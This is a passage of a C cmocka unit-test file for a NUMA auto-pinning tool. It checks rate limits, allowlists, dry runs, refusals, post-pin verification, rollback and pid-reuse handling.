	assert_int_equal(nl_autopin_step(ap, &snap, 100), 0);
	assert_int_equal(c->not_allowed, 1);
	assert_int_equal(nr_applied, 1);
	nl_autopin_free(ap);
}

/* One action per min_interval; a cgroup allowlist; dry run; refusals. */
static void test_autopin_rate_limit(void **state)
{
	static const char *const cgroups[] = { "/system.slice/" };
	struct nl_autopin_opts o;
	struct nl_autopin *ap;
	struct nl_snapshot snap;
	const struct nl_autopin_counters *c;
	int t;

	nl_autopin_opts_default(&o);
	o.cgroups = cgroups;
	o.nr_cgroups = 1;
	o.stable_refreshes = 1;
	ap = nl_autopin_new(&o, &hooks);
	c = nl_autopin_counters(ap);
	snap_make(&snap, 3);
	assert_int_equal(nl_autopin_step(ap, &snap, 0), 1);
	assert_int_equal(c->rate_limited, 2);
	assert_int_equal(nr_waits, 2); /* each held process said once... */
	for (t = 1; t < 60; t += 10)
		assert_int_equal(nl_autopin_step(ap, &snap, t), 0);
	assert_int_equal(c->rate_limited, 2 + 2 * 6);
	assert_int_equal(nr_waits, 2); /* ... not once per refresh */
	assert_int_equal(nl_autopin_step(ap, &snap, 60), 1);
	assert_int_equal(nl_autopin_step(ap, &snap, 120), 1);
	assert_int_equal(nr_applied, 3);
	assert_has(last_log, "pinned pid 300 (batch) to node 1 (CPUs 2-3)");
	assert_has(last_log, "undo: numalens unpin 300");
	nl_autopin_free(ap);

	o.dry_run = true;
	ap = nl_autopin_new(&o, &hooks);
	c = nl_autopin_counters(ap);
	all_log[0] = '\0';
	assert_int_equal(nl_autopin_step(ap, &snap, 0), 1);
	assert_int_equal(c->dry_runs, 1);
	assert_int_equal(c->actions, 0);
	assert_int_equal(nr_applied, 3);
	assert_has(all_log, "dry run: pid 100 (db) would go to node 1");
	nl_autopin_free(ap);

	o.dry_run = false;
	fake_refusal = NL_PIN_KTHREAD;
	ap = nl_autopin_new(&o, &hooks);
	c = nl_autopin_counters(ap);
	assert_int_equal(nl_autopin_step(ap, &snap, 0), 0);
	assert_int_equal(c->refused, 3);
	assert_int_equal(nl_autopin_step(ap, &snap, 1), 0);
	assert_int_equal(c->refused, 3); /* not retried at once */
	assert_has(last_log, "refused for good: refused for the test");
	assert_int_equal(nl_autopin_step(ap, &snap, 1000), 0);
	assert_int_equal(c->refused, 3); /* a kernel thread stays one: never again */
	nl_autopin_free(ap);

	/* EPERM may change (capabilities, owner): tried again after the cooldown. */
	fake_refusal = NL_PIN_PRIVILEGE;
	ap = nl_autopin_new(&o, &hooks);
	c = nl_autopin_counters(ap);
	assert_int_equal(nl_autopin_step(ap, &snap, 0), 0);
	assert_int_equal(c->refused, 3);
	assert_int_equal(c->rate_limited, 0); /* refused before any wait */
	assert_int_equal(nl_autopin_step(ap, &snap, 599), 0);
	assert_int_equal(c->refused, 3);
	assert_int_equal(nl_autopin_step(ap, &snap, 601), 0);
	assert_int_equal(c->refused, 6);
	assert_int_equal(nr_applied, 3);
	nl_autopin_free(ap);
}

/* What applying returns decides the count: pinned, pinned but the memory
 * did not move (partial), refused by the kernel (cpuset), gone (nothing);
 * memory moves only when the plan moves some. */
static void test_autopin_apply_outcomes(void **state)
{
	static const char *const comms[] = { "db" };
	struct nl_autopin_opts o;
	struct nl_autopin *ap;
	struct nl_snapshot snap;
	const struct nl_autopin_counters *c;

	nl_autopin_opts_default(&o);
	o.comms = comms;
	o.nr_comms = 1;
	o.stable_refreshes = 1;
	o.min_interval_s = 0;
	o.cooldown_s = 0;
	o.verify_s = 0; /* acts on one process again and again */
	o.advisor.allow_migrate = true;
	snap_make(&snap, 1); /* all of its memory on node 1, idle: threads move */

	ap = nl_autopin_new(&o, &hooks);
	c = nl_autopin_counters(ap);
	assert_int_equal(nl_autopin_step(ap, &snap, 0), 1);
	assert_int_equal(c->actions, 1);
	assert_false(fake_apply_migrate); /* nothing to move: no migrate_pages */

	fake_apply_err = -EPERM;
	fake_apply_refusal = NL_PIN_FAILED;
	assert_int_equal(nl_autopin_step(ap, &snap, 1), 1);
	assert_int_equal(c->actions, 1);
	assert_int_equal(c->partial, 1);
	assert_int_equal(c->failures, 0);
	assert_int_equal(c->threads_changed, 4);
	assert_has(last_log, "pinned pid 100 (db)");
	assert_has(last_log, "migrate_pages failed for the test");

	fake_apply_err = -EINVAL;
	fake_apply_refusal = NL_PIN_CPUSET;
	assert_int_equal(nl_autopin_step(ap, &snap, 2), 1);
	assert_int_equal(c->refused, 1);
	assert_int_equal(c->failures, 0);
	assert_has(last_log, "not pinned: apply refused for the test");

	fake_apply_err = -ESRCH;
	fake_apply_refusal = NL_PIN_GONE;
	assert_int_equal(nl_autopin_step(ap, &snap, 3), 1);
	assert_int_equal(c->refused + c->failures + c->actions + c->partial, 3);
	nl_autopin_free(ap);

	/* 16 MiB on node 0 too: the plan moves that remainder to node 1 with
	 * the threads, and the apply is told to migrate. */
	fake_apply_err = 0;
	fake_apply_refusal = NL_PIN_OK;
	proc_nodes[0][0].mem_bytes = 16 * MIB;
	nl_model_evaluate(&procs[0], 2, &topo, window, &opts.thresholds);
	ap = nl_autopin_new(&o, &hooks);
	c = nl_autopin_counters(ap);
	assert_int_equal(nl_autopin_step(ap, &snap, 10), 1);
	assert_true(fake_apply_migrate);
	nl_autopin_free(ap);
}

/* ---- auto-pin's verification and rollback ---- */

/* db (pid 100): threads on node 0 at 0.5 CPU, 64 MiB on node 1. After the
 * pin its threads run on node cpu_node at cpu CPUs. */
static void db_runs(struct nl_snapshot *snap, int cpu_node, double cpu)
{
	snap_make(snap, 1);
	proc_nodes[0][0].cpu_s = 0;
	proc_nodes[0][cpu_node].cpu_s = cpu * window;
	nl_model_evaluate(&procs[0], 2, &topo, window, &opts.thresholds);
}

static struct nl_autopin *verifying_autopin(struct nl_autopin_opts *o)
{
	static const char *const comms[] = { "db" };
	struct nl_autopin *ap;
	struct nl_snapshot snap;

	nl_autopin_opts_default(o);
	o->comms = comms;
	o->nr_comms = 1;
	o->stable_refreshes = 1;
	o->verify_s = 3;
	ap = nl_autopin_new(o, &hooks);
	assert_non_null(ap);
	snap_make(&snap, 1);
	assert_int_equal(nl_autopin_step(ap, &snap, 0), 1); /* pinned, remote 1.0 */
	assert_int_equal(nr_applied, 1);
	return ap;
}

/* The threads moved next to the memory: a gain, saved in the record, kept. */
static void test_autopin_verify_gain(void **state)
{
	struct nl_autopin_opts o;
	struct nl_autopin *ap = verifying_autopin(&o);
	const struct nl_autopin_counters *c = nl_autopin_counters(ap);
	struct nl_snapshot snap;
	int t;

	db_runs(&snap, 1, 0.5);
	for (t = 1; t <= 2; t++) {
		assert_int_equal(nl_autopin_step(ap, &snap, t), 0);
		assert_int_equal(nr_saved, 0); /* 1 and 2 s of the 3 */
	}
	assert_int_equal(nl_autopin_step(ap, &snap, 3), 0);
	assert_int_equal(c->verified[NL_VERIFY_GAIN], 1);
	assert_int_equal(c->rolled_back, 0);
	assert_int_equal(nr_undone, 0);
	assert_int_equal(nr_saved, 1);
	assert_int_equal(saved.result, NL_VERIFY_GAIN);
	assert_int_equal(saved.window_ms, 3000);
	assert_true(saved.has_remote);
	assert_int_equal(saved.source, NL_SRC_PLACEMENT);
	assert_int_equal(saved.remote_ppm[0], 1000000);
	assert_int_equal(saved.remote_ppm[1], 0);
	assert_int_equal(saved.cpu_micro[0], 500000);
	assert_int_equal(saved.cpu_micro[1], 500000);
	assert_int_equal(saved.target_bytes[1], 64 * MIB);
	/* A change of -1: in every bucket. */
	assert_int_equal(c->change_count, 1);
	assert_int_equal(c->change_buckets[0], 1);
	assert_true(c->change_sum == -1);
	assert_has(last_log, "verified pid 100 (db) over 3 s: gain: the remote share went from "
			     "1.00 to 0.00 (placement)");
	/* Verified once: later refreshes change nothing. */
	assert_int_equal(nl_autopin_step(ap, &snap, 4), 0);
	assert_int_equal(nr_saved, 1);
	nl_autopin_free(ap);
}

/* Still remote after the pin: undone as unpin does, left alone for the
 * cooldown, then tried again. */
static void test_autopin_verify_rollback(void **state)
{
	struct nl_autopin_opts o;
	struct nl_autopin *ap = verifying_autopin(&o);
	const struct nl_autopin_counters *c = nl_autopin_counters(ap);
	struct nl_snapshot snap;
	int t;

	db_runs(&snap, 0, 0.5); /* as before: remote 1.0 */
	for (t = 1; t <= 3; t++)
		assert_int_equal(nl_autopin_step(ap, &snap, t), 0);
	assert_int_equal(c->verified[NL_VERIFY_NO_GAIN], 1);
	assert_int_equal(c->rolled_back, 1);
	assert_int_equal(nr_undone, 1);
	assert_int_equal(nr_saved, 0); /* unpin removed the record */
	assert_int_equal(c->change_count, 1);
	assert_int_equal(c->change_buckets[5], 0); /* 0 is above -0.05 */
	assert_int_equal(c->change_buckets[6], 1); /* ... and at most 0 */
	assert_has(last_log, "rolled back pid 100 (db) after 3 s: no_gain: the remote share went "
			     "from 1.00 to 1.00 (placement)");
	assert_has(last_log, "2 threads given back their affinity (0-3)");
	assert_has(last_log, "left alone for 600 s");
	/* Held by the cooldown from the rollback on, not from the pin. */
	for (t = 60; t < 603; t += 60)
		assert_int_equal(nl_autopin_step(ap, &snap, t), 0);
	assert_int_equal(nr_applied, 1);
	assert_int_equal(nl_autopin_step(ap, &snap, 604), 1);
	assert_int_equal(nr_applied, 2);
	nl_autopin_free(ap);
}

/* Local now, but its CPU rate fell from 0.5 to 0.3: slower, undone. */
static void test_autopin_verify_slower(void **state)
{
	struct nl_autopin_opts o;
	struct nl_autopin *ap = verifying_autopin(&o);
	const struct nl_autopin_counters *c = nl_autopin_counters(ap);
	struct nl_snapshot snap;
	int t;

	db_runs(&snap, 1, 0.3);
	for (t = 1; t <= 3; t++)
		assert_int_equal(nl_autopin_step(ap, &snap, t), 0);
	assert_int_equal(c->verified[NL_VERIFY_SLOWER], 1);
	assert_int_equal(c->rolled_back, 1);
	assert_has(last_log, "slower: its CPU rate fell by 40%, more than the 10% allowed");
	nl_autopin_free(ap);

	/* Within --auto-pin-max-slowdown: a gain. */
	autopin_reset(state);
	o.verify.max_slowdown = 0.5;
	ap = nl_autopin_new(&o, &hooks);
	c = nl_autopin_counters(ap);
	snap_make(&snap, 1);
	assert_int_equal(nl_autopin_step(ap, &snap, 0), 1);
	db_runs(&snap, 1, 0.3);
	for (t = 1; t <= 3; t++)
		assert_int_equal(nl_autopin_step(ap, &snap, t), 0);
	assert_int_equal(c->verified[NL_VERIFY_GAIN], 1);
	assert_int_equal(c->rolled_back, 0);
	nl_autopin_free(ap);
}

/* The window before is every refresh the suggestion held, not only the
 * last: 0.4, 0.5 and 0.6 CPUs are 0.5 before; 0.46 after is 8% slower,
 * within the 10% (against the last refresh alone, 23%). */
static void test_autopin_verify_window_before(void **state)
{
	static const char *const comms[] = { "db" };
	static const double rates[] = { 0.4, 0.5, 0.6 };
	struct nl_autopin_opts o;
	struct nl_autopin *ap;
	const struct nl_autopin_counters *c;
	struct nl_snapshot snap;
	int t;

	nl_autopin_opts_default(&o);
	o.comms = comms;
	o.nr_comms = 1;
	o.stable_refreshes = 3;
	o.verify_s = 2;
	ap = nl_autopin_new(&o, &hooks);
	c = nl_autopin_counters(ap);
	for (t = 0; t < 3; t++) {
		db_runs(&snap, 0, rates[t]);
		assert_int_equal(nl_autopin_step(ap, &snap, t), t == 2);
	}
	db_runs(&snap, 1, 0.46);
	assert_int_equal(nl_autopin_step(ap, &snap, 3), 0);
	assert_int_equal(nl_autopin_step(ap, &snap, 4), 0);
	assert_int_equal(c->verified[NL_VERIFY_GAIN], 1);
	assert_int_equal(saved.cpu_micro[0], 500000);
	assert_int_equal(saved.cpu_micro[1], 460000);
	nl_autopin_free(ap);
}

/* It exits, or its pid names another process, during the window: gone,
 * decided at once, nothing undone or saved. */
static void test_autopin_verify_gone(void **state)
{
	struct nl_autopin_opts o;
	struct nl_autopin *ap = verifying_autopin(&o);
	const struct nl_autopin_counters *c = nl_autopin_counters(ap);
	struct nl_snapshot snap;

	db_runs(&snap, 1, 0.5);
	assert_int_equal(nl_autopin_step(ap, &snap, 1), 0);
	snap_make(&snap, 0);
	assert_int_equal(nl_autopin_step(ap, &snap, 2), 0);
	assert_int_equal(c->verified[NL_VERIFY_GONE], 1);
	assert_int_equal(nr_undone + nr_saved, 0);
	assert_int_equal(c->change_count, 0);
	assert_has(last_log, "pid 100 (db): not verified: pid 100 exited during the window");
	nl_autopin_free(ap);

	autopin_reset(state);
	ap = verifying_autopin(&o);
	c = nl_autopin_counters(ap);
	db_runs(&snap, 1, 0.5);
	procs[0].start_time_ns = 2; /* another process with the pid */
	assert_int_equal(nl_autopin_step(ap, &snap, 1), 0);
	assert_int_equal(c->verified[NL_VERIFY_GONE], 1);
	assert_int_equal(nr_undone + nr_saved, 0);
	nl_autopin_free(ap);

	/* Reused between the last refresh and the check of its state. */
	autopin_reset(state);
	ap = verifying_autopin(&o);
	c = nl_autopin_counters(ap);
	db_runs(&snap, 0, 0.5);
	fake_start = 78;
	assert_int_equal(nl_autopin_step(ap, &snap, 1), 0);
	assert_int_equal(nl_autopin_step(ap, &snap, 2), 0);
	assert_int_equal(nl_autopin_step(ap, &snap, 3), 0);
	assert_int_equal(c->verified[NL_VERIFY_GONE], 1);
	assert_int_equal(nr_undone, 0); /* never the other process's affinity */
	assert_has(last_log, "pid 100 names another process");
	nl_autopin_free(ap);
}

/* Someone else changed the threads' affinity: undone, not rolled back
 * (that would overwrite their change); saved. A state that cannot be read
 * decides nothing; an undo that fails is counted. */
static void test_autopin_verify_undone_and_errors(void **state)
{
	struct nl_autopin_opts o;
	struct nl_autopin *ap = verifying_autopin(&o);
	const struct nl_autopin_counters *c = nl_autopin_counters(ap);
	struct nl_snapshot snap;
	int t;

	db_runs(&snap, 0, 0.5);
	fake_threads_off = 2;
	for (t = 1; t <= 3; t++)
		assert_int_equal(nl_autopin_step(ap, &snap, t), 0);
	assert_int_equal(c->verified[NL_VERIFY_UNDONE], 1);
	assert_int_equal(nr_undone, 0);
	assert_int_equal(nr_saved, 1);
	assert_int_equal(saved.result, NL_VERIFY_UNDONE);
	nl_autopin_free(ap);

	autopin_reset(state);
	ap = verifying_autopin(&o);
	c = nl_autopin_counters(ap);
	db_runs(&snap, 0, 0.5);
	fake_state_err = -EACCES;
	for (t = 1; t <= 3; t++)
		assert_int_equal(nl_autopin_step(ap, &snap, t), 0);
	assert_int_equal(c->verified[NL_VERIFY_NO_GAIN] + c->rolled_back, 0);
	assert_has(last_log, "cannot verify the change: Permission denied; it stays");
	nl_autopin_free(ap);

	autopin_reset(state);
	ap = verifying_autopin(&o);
	c = nl_autopin_counters(ap);
	db_runs(&snap, 0, 0.5);
	fake_undo_err = -EPERM;
	for (t = 1; t <= 3; t++)
		assert_int_equal(nl_autopin_step(ap, &snap, t), 0);
	assert_int_equal(c->verified[NL_VERIFY_NO_GAIN], 1);
	assert_int_equal(c->rolled_back, 0);
	assert_int_equal(c->rollback_failed, 1);
	assert_has(last_log, "undoing it failed: undo refused for the test");
	nl_autopin_free(ap);
}

/* The window is made of refreshes: each source's share weighed by what
 * stands behind it in each. */
static void test_verify_accum(void **state)
{
	struct nl_verify_accum acc = { 0 };
	struct nl_verify_sample s;
	struct nl_snapshot snap;

	snap_make(&snap, 1);
	/* 1 s at remote 1.0 with 0.5 CPU, then 1 s at 0.0 with 1.5 CPU. */
	nl_verify_accum_add(&acc, &snap, &procs[0], 1ull << 1);
	db_runs(&snap, 1, 1.5);
	nl_verify_accum_add(&acc, &snap, &procs[0], 1ull << 1);
	nl_verify_accum_sample(&acc, &s);
	assert_true(s.seen);
	assert_int_equal(acc.refreshes, 2);
	assert_true(fabs(s.cpu_rate - 1.0) < 1e-9);
	assert_true(s.ratio[NL_SRC_PLACEMENT].valid);
	assert_true(fabs(s.ratio[NL_SRC_PLACEMENT].value - 0.25) < 1e-9);
	assert_false(s.ratio[NL_SRC_HINT_FAULTS].valid);
	assert_int_equal(s.target_bytes, 64 * MIB);
	nl_verify_accum_add(&acc, &snap, NULL, 1ull << 1);
	nl_verify_accum_sample(&acc, &s);
	assert_false(s.seen);
}

static void test_autopin_cgroup_paths(void **state)
{
	char a[] = "/system.slice/db.service//", b[] = "system.slice", c[] = "/sys/fs/cgroup/x",
	     d[] = "/system.slice/*.service", e[] = "/", msg[200];

	assert_int_equal(nl_autopin_cgroup_normalize(a, msg, sizeof(msg)), 0);
	assert_string_equal(a, "/system.slice/db.service");
	assert_int_equal(nl_autopin_cgroup_normalize(b, msg, sizeof(msg)), -EINVAL);
	assert_has(msg, "starting with '/'");
	assert_int_equal(nl_autopin_cgroup_normalize(c, msg, sizeof(msg)), -EINVAL);
	assert_has(msg, "give the path inside, as in /proc/PID/cgroup (/x)");
	assert_int_equal(nl_autopin_cgroup_normalize(d, msg, sizeof(msg)), -EINVAL);
	assert_has(msg, "not a pattern");
	assert_int_equal(nl_autopin_cgroup_normalize(e, msg, sizeof(msg)), 0);
	assert_string_equal(e, "/");
}

/* Many processes outside the allowlist, in no pid order: each counted and
 * logged once, and again only when its pid names a new process. */
static void test_autopin_many_not_allowed(void **state)
{
	enum { N = 500 };
	static struct nl_proc_view many[N];
	static struct nl_node_stat many_nodes[N][2];
	static const char *const comms[] = { "db" };
	struct nl_autopin_opts o;
	struct nl_autopin *ap;
	struct nl_snapshot snap = {
		.topo = &topo, .nr_nodes = 2, .window_s = window, .nr = N, .procs = many
	};
	/* Pids clear of this test's own, which auto-pin always skips. */
	uint32_t base = (uint32_t)getpid() + 1;
	int i, t;

	memset(many, 0, sizeof(many));
	memset(many_nodes, 0, sizeof(many_nodes));
	for (i = 0; i < N; i++) {
		many[i].pid = base + (uint32_t)(i * 7919 % N); /* a permutation */
		many[i].start_time_ns = 1;
		strcpy(many[i].comm, "web");
		many[i].node = many_nodes[i];
		many[i].mem_known = true;
		many_nodes[i][0].cpu_s = 0.5;
		many_nodes[i][1].mem_bytes = 64 * MIB;
		nl_model_evaluate(&many[i], 2, &topo, window, &opts.thresholds);
	}
	nl_autopin_opts_default(&o);
	o.comms = comms;
	o.nr_comms = 1;
	o.stable_refreshes = 1;
	ap = nl_autopin_new(&o, &hooks);
	for (t = 0; t < 3; t++)
		assert_int_equal(nl_autopin_step(ap, &snap, t), 0);
	assert_int_equal(nl_autopin_counters(ap)->not_allowed, N);
	assert_has(last_log, "is not in the allowlist");
	for (i = 0; i < 10; i++)
		many[i * 37].start_time_ns = 2; /* pid reused */
	assert_int_equal(nl_autopin_step(ap, &snap, 3), 0);
	assert_int_equal(nl_autopin_counters(ap)->not_allowed, N + 10);
	assert_int_equal(nr_applied, 0);
	nl_autopin_free(ap);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(test_two_nodes_affinity, reset),
		cmocka_unit_test_setup(test_two_nodes_busy_target_migrates, reset),
		cmocka_unit_test_setup(test_split_memory, reset),
		cmocka_unit_test_setup(test_small_remainder, reset),
		cmocka_unit_test_setup(test_four_nodes_uneven_distances, reset),
		cmocka_unit_test_setup(test_eight_nodes_larger_than_a_node, reset),
		cmocka_unit_test_setup(test_full_nodes, reset),
		cmocka_unit_test_setup(test_load_rule, reset),
		cmocka_unit_test_setup(test_cpuset_limits, reset),
		cmocka_unit_test_setup(test_forced_targets, reset),
		cmocka_unit_test_setup(test_thresholds, reset),
		cmocka_unit_test_setup(test_one_node_and_unknown_memory, reset),
		cmocka_unit_test_setup(test_hysteresis, reset),
		cmocka_unit_test_setup(test_memory_only_node, reset),
		cmocka_unit_test_setup(test_commands_by_context, reset),
		cmocka_unit_test(test_cgroup_classify),
		cmocka_unit_test(test_cgroup_parsers),
		cmocka_unit_test(test_cgroup_names_whole),
		cmocka_unit_test(test_cgroup_paths_forged),
		cmocka_unit_test_setup_teardown(test_limits_read, tree_setup, tree_teardown),
		cmocka_unit_test_setup_teardown(test_limits_hostile, tree_setup, tree_teardown),
		cmocka_unit_test_setup_teardown(test_report_suggestion, tree_setup, tree_teardown),
		cmocka_unit_test_setup_teardown(test_pin_auto_plan_is_diagnose_plan, tree_setup,
						tree_teardown),
		cmocka_unit_test_setup_teardown(test_advice_step, tree_setup, tree_teardown),
		cmocka_unit_test_setup(test_tracked, reset),
		cmocka_unit_test_setup(test_autopin_hysteresis_allowlist, autopin_reset),
		cmocka_unit_test_setup(test_autopin_rate_limit, autopin_reset),
		cmocka_unit_test_setup(test_autopin_many_not_allowed, autopin_reset),
		cmocka_unit_test_setup(test_autopin_apply_outcomes, autopin_reset),
		cmocka_unit_test_setup(test_autopin_cgroup_paths, autopin_reset),
		cmocka_unit_test_setup(test_autopin_verify_gain, autopin_reset),
		cmocka_unit_test_setup(test_autopin_verify_rollback, autopin_reset),
		cmocka_unit_test_setup(test_autopin_verify_slower, autopin_reset),
		cmocka_unit_test_setup(test_autopin_verify_window_before, autopin_reset),
		cmocka_unit_test_setup(test_autopin_verify_gone, autopin_reset),
		cmocka_unit_test_setup(test_autopin_verify_undone_and_errors, autopin_reset),
		cmocka_unit_test_setup(test_verify_accum, autopin_reset),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
